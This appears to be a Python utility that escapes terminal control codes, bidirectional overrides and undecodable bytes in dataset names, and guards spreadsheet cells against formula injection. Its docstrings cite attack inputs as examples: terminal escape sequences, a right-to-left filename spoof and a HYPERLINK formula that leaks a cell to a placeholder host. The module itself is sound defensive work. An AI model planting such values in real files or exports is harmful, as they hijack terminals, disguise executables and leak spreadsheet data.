"""Names from a dataset made safe to print on a terminal or to write as one field of a line.

A file or class name is chosen by whoever made the dataset. Printed raw, a name holding
"\\x1b]0;..." or "\\x1b[2J" drives the user's terminal, a tab or newline forges a row in a
tab-separated report such as skipped.txt, and a right-to-left override makes "gpj.exe" read as
"exe.jpg". `printable` keeps every ordinary character (accents, CJK, emoji) and writes the rest
as Python escapes, so what is shown is unambiguous and still says what the name was.
"""
from __future__ import annotations

import re

# C0 and C1 controls and DEL (tab, newline and ESC among them); the bidirectional embeddings,
# overrides and isolates; lone surrogates, which is how Python carries a file name's bytes that
# are not UTF-8 (os.fsdecode's surrogateescape), so they are shown as the original byte.
_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


_SHORT = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}


def _escape(match: re.Match) -> str:
    if match.group() in _SHORT:
        return _SHORT[match.group()]
    code = ord(match.group())
    if 0xDC80 <= code <= 0xDCFF:  # surrogateescape: the undecodable byte code - 0xDC00
        return f"\\x{code - 0xDC00:02x}"
    return f"\\x{code:02x}" if code <= 0xFF else f"\\u{code:04x}"


def printable(text: object) -> str:
    """str(text) with control, bidi-override and undecodable characters written as escapes; a
    backslash is doubled only where escapes are added, so ordinary Windows-style names stay."""
    text = str(text)
    if not _UNSAFE.search(text):
        return text
    return _UNSAFE.sub(_escape, text.replace("\\", "\\\\"))


# OWASP's list for CSV injection: a cell starting with one of these is a formula to Excel,
# LibreOffice and Google Sheets (tab and carriage return are already escaped by `printable`).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(text: object) -> str:
    """`printable(text)`, with a leading ' when it would start a formula: a class named
    `=HYPERLINK("http://x/?"&A1)` is then shown as text, as OWASP recommends. The quote is
    what a spreadsheet shows; a CSV reader sees it as part of the value (`'=x`)."""
    text = printable(text)
    return "'" + text if text.startswith(_FORMULA_START) else text
